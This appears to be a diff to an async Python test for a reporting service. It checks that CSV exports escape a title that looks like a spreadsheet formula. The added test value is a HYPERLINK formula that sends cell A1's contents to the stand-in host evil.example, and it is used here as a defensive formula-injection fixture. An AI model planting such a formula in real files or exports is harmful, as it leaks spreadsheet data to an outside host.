@@ -6,6 +6,8 @@ by two concurrent publishers."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import shutil
 from datetime import date, datetime, timedelta
 from pathlib import Path
@@ -122,7 +124,10 @@ async def test_the_final_report_is_served_only_once_the_task_force_is_dissolved(
     from services.reporting import api, pages
     from shared import auth
 
-    d = received(MON, n=7)
+    # A title a spreadsheet would take for a formula: stored and shown as typed, exported
+    # as text.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    d = received(MON, n=7, title=formula)
     await handlers.on_received([env(d)], None)  # type: ignore[arg-type]
     await handlers.on_assigned([env(assigned(d, MON))], None)  # type: ignore[arg-type]
     clock = ManualClock(datetime(2026, 11, 30, 8, tzinfo=TZ))
@@ -156,6 +161,9 @@ async def test_the_final_report_is_served_only_once_the_task_force_is_dissolved(
         handed = (await c.get("/v1/reports/binh-duong/final/handed-over.csv")).text
         assert handed.splitlines()[0] == ",".join(api.ITEM_COLUMNS)
         assert f"{d.tracking_code}," in handed and "binh-duong.bql-kcn" in handed
+        (item,) = list(csv.DictReader(io.StringIO(handed)))
+        assert item["title"] == "'" + formula
+        assert r.json()["handed_over"][0]["title"] == formula
         page = await c.get("/reports/binh-duong/final?lang=en")
         assert page.status_code == 200
         assert "Final report of the mandate" in page.text and d.tracking_code in page.text
